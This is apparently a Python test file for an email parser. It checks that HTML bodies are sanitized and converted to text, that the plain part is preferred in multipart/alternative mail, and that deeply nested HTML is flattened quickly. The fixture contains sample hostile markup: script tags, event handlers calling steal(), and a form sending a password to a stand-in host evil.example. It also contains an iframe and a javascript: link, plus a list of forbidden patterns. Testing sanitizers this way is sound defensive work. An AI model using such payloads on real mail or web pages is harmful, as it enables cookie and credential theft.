"""Reading HTML bodies: HTML made safe to display (no scripts, styles, event handlers,
forms, frames or javascript: links) and turned into text when a mail has no plain
text, the plain part preferred for text in multipart/alternative, and HTML nested too
deep flattened rather than parsed for minutes. No database: the parser works on bytes
alone."""

from __future__ import annotations

import time

from pharos.mail.parsing import parse_mail

from .parsing_helpers import multipart, raw_mail

# --- HTML bodies ----------------------------------------------------------------------

HOSTILE_HTML = """<html><head><title>Newsletter</title><style>p { color: red }</style>
<script>alert("head")</script></head>
<body onload="steal()">
<p>Hello <b>team</b>,</p>
<p>My withdrawal<br>is   stuck &amp; I&nbsp;need help.</p>
<ul><li>Coin: BTC</li><li>Amount: 0.5</li></ul>
<ol><li>first</li><li>second</li></ol>
<script>document.cookie</script>
<form action="https://evil.example/collect"><input name="password"></form>
<iframe src="https://evil.example/frame"></iframe>
<a href="https://example.com/help" onclick="steal()">help page</a>
<a href="javascript:alert(1)">click</a>
<img src="cid:logo@example.com" onerror="steal()">
</body></html>"""


def test_html_only_mail_is_converted_to_text_and_sanitized() -> None:
    mail = parse_mail(raw_mail(HOSTILE_HTML, extra="Content-Type: text/html; charset=utf-8\n"))

    assert mail.text == (
        "Hello team,\n\nMy withdrawal\nis stuck & I need help.\n\n"
        "- Coin: BTC\n- Amount: 0.5\n1. first\n2. second\n"
        "help page click"
    )
    assert mail.html is not None
    for forbidden in (
        "<script",
        "alert",
        "<style",
        "color: red",
        "onload",
        "onclick",
        "onerror",
        "<form",
        "<input",
        "<iframe",
        "javascript:",
        "Newsletter",
    ):
        assert forbidden not in mail.html
    assert (
        '<a href="https://example.com/help" rel="noopener noreferrer nofollow">help page</a>'
        in mail.html
    )
    assert mail.problems == ()


def test_alternative_mail_uses_the_plain_part_for_text_and_the_html_part_for_html() -> None:
    raw = multipart(
        "alt",
        "Content-Type: text/plain; charset=utf-8\n\nPlain version",
        "Content-Type: text/html; charset=utf-8\n\n<p>HTML <i>version</i></p>",
        content_type="multipart/alternative",
    )

    mail = parse_mail(raw)

    assert mail.text == "Plain version"
    assert mail.html == "<p>HTML <i>version</i></p>"


def test_alternative_mail_with_an_empty_plain_part_uses_the_html_for_text() -> None:
    raw = multipart(
        "alt",
        "Content-Type: text/plain; charset=utf-8\n\n   ",
        "Content-Type: text/html; charset=utf-8\n\n<div>Only here</div>",
        content_type="multipart/alternative",
    )

    assert parse_mail(raw).text == "Only here"


# --- HTML nested too deep -------------------------------------------------------------


def test_deeply_nested_html_is_flattened_rather_than_parsed_for_minutes() -> None:
    html = "<blockquote>" * 50_000 + "still here" + "</blockquote>" * 50_000

    started = time.perf_counter()
    mail = parse_mail(raw_mail(html, extra="Content-Type: text/html\n"))

    assert time.perf_counter() - started < 2
    assert mail.text.endswith("still here")
    assert any("flattened" in problem for problem in mail.problems)
